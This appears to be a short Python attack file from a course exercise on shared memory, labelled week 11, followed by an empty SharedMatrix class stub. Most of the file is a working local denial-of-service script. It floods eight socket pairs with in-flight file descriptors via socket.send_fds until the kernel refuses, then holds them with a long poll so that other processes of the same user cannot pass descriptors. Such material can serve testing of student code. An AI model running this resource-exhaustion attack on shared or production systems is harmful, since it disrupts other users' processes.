"""Leaves so many descriptors on their way that nobody else of the same user may send one."""
# attack: week=11 exercise=shm
import select
import socket

pairs = [socket.socketpair() for _ in range(8)]
for here, _ in pairs:
    try:
        while True:
            socket.send_fds(here, [b"parked"], [0] * 250, socket.MSG_DONTWAIT)
    except OSError as error:
        print("no more", error)
select.poll().poll(25_000)


class SharedMatrix:
    pass
